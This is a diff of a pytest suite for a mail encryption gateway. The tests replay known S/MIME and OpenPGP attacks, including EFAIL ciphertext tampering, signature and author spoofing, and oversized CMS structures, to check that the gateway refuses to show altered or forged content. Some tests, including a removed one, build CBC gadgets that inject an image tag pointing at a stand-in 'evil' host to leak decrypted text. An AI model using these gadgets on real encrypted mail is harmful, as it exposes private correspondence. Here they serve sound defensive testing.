@@ -9,9 +9,11 @@ import subprocess
 
 import pytest
 
+import attacks
 import messages
 import people
 import world as sandbox
+from ber import closed, der, elements, opened
 
 SETTINGS = 'networks { "192.0.2.0/24" }\n'
 RULES = """
@@ -215,26 +217,74 @@ def test_what_cannot_be_opened_passes_byte_for_byte(world, post, outside, name, 
     assert post.copies(address)[0]["method"] == "pass"
 
 
-def test_efail_gadgets_in_cbc_are_not_shown(world, post, outside, name):
-    """EFAIL (Poddebniak et al. 2018, §4): a known block and two chosen ones make a block of the attacker's, beside a
-    block of random bytes."""
+def pass_byte_for_byte(outside, address, entities):
+    """Sends all of them, and returns {name: mail}."""
+    sent = {}
+    for what, entity in entities.items():
+        sent[what] = outside.mail(entity, [address], subject=what)
+        outside.send(sent[what], [address])
+    mails = {mail["Subject"]: mail for mail in outside.post.box(address).wait(len(sent))}
+    for what, message in sent.items():
+        assert arrived(mails[what]) == people.entity_of(message), what
+        assert set(results(mails[what]).values()) <= {"neutral"}, what
+    assert {copy["method"] for copy in outside.post.copies(address)} == {"pass"}
+    return mails
+
+
+PAGE = b"Content-Type: text/html; charset=utf-8\r\n\r\n<p>" + b"The secret is 42. " * 40 + b"</p>\r\n"
+
+
+def test_mail_that_was_changed_on_its_way_was_shown(world, post, outside, name):
+    """Promise 1, the other way round."""
     address = f"{name}@example.com"
-    entity = b"Content-Type: text/html; charset=utf-8\r\n\r\n" + b"<p>" + b"The secret is 42. " * 40 + b"</p>\r\n"
-    der = envelope(entity, employee(world, address), form="DER")
-    cipher_length = (len(entity) // 16 + 1) * 16
-    at = len(der) - cipher_length
-    blocks = [der[at + i:at + i + 16] for i in range(0, cipher_length, 16)]
-    known = entity[16:32]  # decrypts from blocks[1] with blocks[0]
-    for number, wanted in enumerate((b'<img ignore="1234', b'" src=//evil/?aa')):
-        mask = bytes(a ^ b ^ c for a, b, c in zip(blocks[0], known, wanted[:16]))
-        blocks[10 + 4 * number:12 + 4 * number] = [mask, blocks[1]]
-    sealed = pkcs7(der[:at] + b"".join(blocks))
-    message, mail = outside.sent(sealed, address)
-    assert arrived(mail) == people.entity_of(message)
+    certificate = employee(world, address)
+    cbc, gcm = (envelope(PAGE, certificate, options=(cipher,), form="DER") for cipher in ("-aes-256-cbc", "-aes-256-gcm"))
+    sealed = pkcs7(gcm)
+    mails = pass_byte_for_byte(outside, address, {
+        **{what: wrap(sealed) for what, wrap in attacks.WRAPPED.items()},
+        **{what: pkcs7(attacks.change_ciphertext(cbc, change)) for what, change in attacks.CBC.items()},
+        **{what: pkcs7(change(gcm)) for what, change in attacks.GCM.items()},
+        **{what: pkcs7(change(cbc)) for what, change in attacks.STRUCTURE.items()}})
+    outside.send(outside.mail(sealed, [address]), [address])
+    outside.send(outside.mail(pkcs7(attacks.change_ciphertext(cbc, lambda iv, text: (iv, text))), [address]), [address])
+    assert [arrived(mail) for mail in post.box(address).wait(len(mails) + 2) if mail["Subject"] == "Hello"] == [PAGE, PAGE]
     # openssl shows what was made of it
-    shown = subprocess.run(["openssl", "cms", "-decrypt", "-binary", "-recip", world.directory / "keys" / f"{name}-example-com.pem",
-                            "-inkey", world.directory / "keys" / f"{name}-example-com.key"], input=mail.raw, capture_output=True)
+    shown = subprocess.run(["openssl", "cms", "-decrypt", "-binary", "-recip", certificate, "-inkey", certificate.with_suffix(".key")],
+                           input=mails["gadgets in the middle"].raw, capture_output=True)
     assert b'<img ignore="123' in shown.stdout
+
+
+def is_of_one_byte_each(block):
+    """Could it be text in a charset of single bytes?"""
+    return all(byte in b"\t\r\n\f\033" or 0x20 <= byte < 0x7f or byte >= 0xa0 for byte in block)
+
+
+def test_random_block_that_looked_like_text_was_shown(world, post, outside, name):
+    """One in seventy does: whoever changes mail may try as often as they like."""
+    address = f"{name}@example.com"
+    certificate = employee(world, address)
+    cbc = envelope(PAGE, certificate, form="DER")
+    wanted = [b"<img src=//%04d/" % number for number in range(1000)]
+    all_of_them = attacks.change_ciphertext(cbc, attacks.with_gadgets(attacks.KNOWN, *wanted))
+    shown = subprocess.run(["openssl", "cms", "-decrypt", "-binary", "-inform", "DER", "-recip", certificate,
+                            "-inkey", certificate.with_suffix(".key")], input=all_of_them, capture_output=True).stdout
+    found = [text for text in wanted if is_of_one_byte_each(shown[shown.index(text) - 16:shown.index(text)])]
+    pass_byte_for_byte(outside, address, {
+        text.decode(): pkcs7(attacks.change_ciphertext(cbc, attacks.with_gadgets(attacks.KNOWN, text))) for text in found[:3]})
+
+
+def test_text_in_a_charset_of_single_bytes_is_opened_where_it_names_one(world, post, outside, name):
+    address = f"{name}@example.com"
+    certificate = employee(world, address)
+    text = "\r\n\r\nGrüße aus Genève\r\n".encode("latin-1")
+    named = b'Content-Type: text/plain;\r\n charset="ISO-8859-1"\r\nContent-Transfer-Encoding: 8bit' + text
+    within = b'Content-Type: multipart/mixed; boundary="m"\r\n\r\n' + messages.multipart("m", named.rstrip(b"\r\n"))
+    nameless = b"Content-Type: text/plain\r\nContent-Transfer-Encoding: 8bit" + text
+    for entity in (named, within):
+        outside.send(outside.mail(envelope(entity, certificate), [address]), [address])
+    assert sorted(arrived(mail) for mail in post.box(address).wait(2)) == sorted((named, within))
+    other = f"{name}b@example.com"
+    pass_byte_for_byte(outside, other, {"Nameless": envelope(nameless, employee(world, other))})
 
 
 def test_old_ciphers_only_by_rule(world, post, outside, name):
@@ -491,6 +541,43 @@ def test_signature_counts_only_for_what_it_covers_and_for_the_author(world, post
     assert world.postgres.query(f"select 1 from postseal.attestation where address = '{bob}'") == []
 
 
+@pytest.fixture(scope="module")
+def bob(world):
+    return "bob@spoofed.example", world.authority.issue_mail("bob-spoofed", "bob@spoofed.example")
+
+
+@pytest.fixture(scope="module")
+def eve(world):
+    return world.authority.issue_mail("eve-spoofed", "eve@spoofed.example")
+
+
+def signatures_in(outside, address, bob, messages_sent):
+    """What is said about each of the messages: {subject: result}."""
+    for message in messages_sent.values():
+        outside.send(message, [address], sender=bob)
+    mails = {mail["Subject"]: mail for mail in outside.post.box(address).wait(len(messages_sent))}
+    for what, message in messages_sent.items():
+        assert arrived(mails[what]) == people.entity_of(message), what
+    return {what: results(mails[what]).get("smime") for what in messages_sent}
+
+
+def test_signature_was_taken_for_one_of_other_text(outside, name, bob, eve):
+    """Müller et al., 2019, §4: what is signed is not what is shown."""
+    address, (author, certificate) = f"{name}@example.com", bob
+    sent = {what: outside.mail(make(certificate, eve), [address], sender=author, subject=what)
+            for what, (make, _) in attacks.SIGNATURES.items()}
+    assert signatures_in(outside, address, author, sent) == {what: wanted for what, (_, wanted) in attacks.SIGNATURES.items()}
+
+
+def test_signature_was_taken_for_one_of_another_author(outside, name, bob):
+    """Müller et al., 2019, §4.3: who signed is not who is shown."""
+    address, (author, certificate) = f"{name}@example.com", bob
+    entity = attacks.detached(TEXT, attacks.sign(certificate, TEXT))
+    sent = {what: outside.mail(entity, [address], author=names.format(bob=author), subject=what)
+            for what, (names, _) in attacks.AUTHORS.items()}
+    assert signatures_in(outside, address, author, sent) == {what: wanted for what, (_, wanted) in attacks.AUTHORS.items()}
+
+
 # --- OpenPGP ---
 
 def pgp_employee(world, address, kind="future-default"):
@@ -560,6 +647,30 @@ def test_openpgp_that_cannot_be_opened_passes_byte_for_byte(world, post, outside
     assert post.copies(address)[0]["method"] == "pass"
 
 
+def test_openpgp_mail_that_was_changed_on_its_way_was_shown(world, post, outside, name):
+    """And what was not changed is shown: armor need not have a checksum (RFC 9580 §6.1), without which gpg reads a third of
+    what has partial lengths."""
+    address = f"{name}@example.com"
+    gpg = pgp_employee(world, address)
+    pages = [PAGE + b" " * blanks + b"\r\n" for blanks in range(3)]
+    try:
+        good = [gpg.run("--trust-model", "always", "-r", address, "-z", "0", "--encrypt", data=page) for page in pages]
+        others = {what: gpg.run(*words, "--output", "-", data=TEXT) for what, words in attacks.PGP_WORDS.items()}
+    finally:
+        gpg.end()
+    data = good[0]
+    sealed = pgp_mime(attacks.armored(data))
+    mails = pass_byte_for_byte(outside, address, {
+        **{what: wrap(sealed) for what, wrap in attacks.WRAPPED.items() if "encoding" not in what},
+        **{what: pgp_mime(attacks.armored(change(data))) for what, change in attacks.PGP.items()},
+        **{what: pgp_mime(attacks.armored(other)) for what, other in others.items()},
+        "as HTML": b"Content-Type: text/html\r\n\r\n" + attacks.armored(data)})
+    for made in (*good, attacks.joined(attacks.packets(data))):
+        outside.send(outside.mail(pgp_mime(attacks.armored(made)), [address]), [address])
+    opened = [arrived(mail) for mail in post.box(address).wait(len(mails) + 4) if mail["Subject"] == "Hello"]
+    assert sorted(opened) == sorted([*pages, pages[0]])
+
+
 def test_nobody_gets_mail_decrypted_with_the_key_of_a_colleague(world, post, outside, name):
     """Whoever has caught mail for a colleague sends it to themselves; gpg would use any key that the agent has."""
     victim, thief = f"{name}a@example.com", f"{name}b@example.com"
@@ -577,32 +688,11 @@ def test_nobody_gets_mail_decrypted_with_the_key_of_a_colleague(world, post, out
 
 # --- what is made to be a burden ---
 
-def der(tag, *parts):
-    content = b"".join(parts)
-    size = len(content).to_bytes((len(content).bit_length() + 7) // 8 or 1, "big")
-    return bytes([tag]) + (size if len(content) < 128 else bytes([0x80 | len(size)]) + size) + content
-
-
-def elements(data):
-    """[(tag, contents)] of DER."""
-    found, at = [], 0
-    while at < len(data):
-        head, length = 2, data[at + 1]
-        if length & 0x80:
-            head, length = 2 + (length & 0x7f), int.from_bytes(data[at + 2:at + 2 + (length & 0x7f)], "big")
-        found.append((data[at], data[at + head:at + head + length]))
-        at += head + length
-    return found
-
-
 def repeated(structure, which, times):
     """A CMS structure in which all that one of its sets contains is there many times."""
-    (_, outer), = elements(structure)
-    kind, (_, explicit) = elements(outer)
-    (_, inner), = elements(explicit)
-    parts = elements(inner)
+    kind, parts = opened(structure)
     parts[which] = parts[which][0], parts[which][1] * times
-    return der(0x30, der(*kind), der(0xa0, der(0x30, *(der(*part) for part in parts))))
+    return closed(kind, parts)
 
 
 DIGESTS, SIGNERS, READERS = 1, -1, 1
@@ -620,13 +710,10 @@ def burdened_signature(world, bob, which, times):
 
 def of_many_readers(certificate, times):
     """Ours is the last of them."""
-    (_, outer), = elements(envelope(TEXT, certificate, form="DER"))
-    kind, (_, explicit) = elements(outer)
-    (_, inner), = elements(explicit)
-    version, readers, content = elements(inner)
+    kind, (version, readers, content) = opened(envelope(TEXT, certificate, form="DER"))
     (_, reader), = elements(readers[1])
     stranger = der(0x30, reader.replace(b"Example Root", b"Example Ruth"))
-    return pkcs7(der(0x30, der(*kind), der(0xa0, der(0x30, der(*version), der(0x31, stranger * times, der(0x30, reader)), der(*content)))))
+    return pkcs7(closed(kind, [version, (0x31, stranger * times + der(0x30, reader)), content]))
 
 
 BURDENS = {
